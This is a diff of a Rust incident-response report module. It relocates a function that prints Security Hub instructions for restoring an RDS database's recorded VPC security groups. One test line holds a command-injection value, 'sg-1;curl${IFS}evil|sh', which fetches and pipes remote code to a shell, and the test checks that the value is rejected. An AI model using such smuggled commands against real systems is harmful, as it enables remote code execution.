@@ -110,6 +110,17 @@ impl Report {
     }
 }
 
+/// HOW TO RELEASE an RDS database: `FbRelease`, which gives its recorded groups back.
+fn write_database_release(b: &mut String) {
+    let _ = writeln!(
+        b,
+        "  Choose {} on the finding in Security Hub: it gives back the database's VPC security \
+         groups\n  exactly as recorded ({}). The snapshot is kept.",
+        CustomAction::FbRelease.id(),
+        tags::VPC_GROUPS
+    );
+}
+
 #[cfg(test)]
 mod tests {
     use std::collections::BTreeMap;
@@ -152,15 +163,4 @@ mod tests {
             r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
         ));
     }
-}
-
-/// HOW TO RELEASE an RDS database: `FbRelease`, which gives its recorded groups back.
-fn write_database_release(b: &mut String) {
-    let _ = writeln!(
-        b,
-        "  Choose {} on the finding in Security Hub: it gives back the database's VPC security \
-         groups\n  exactly as recorded ({}). The snapshot is kept.",
-        CustomAction::FbRelease.id(),
-        tags::VPC_GROUPS
-    );
 }
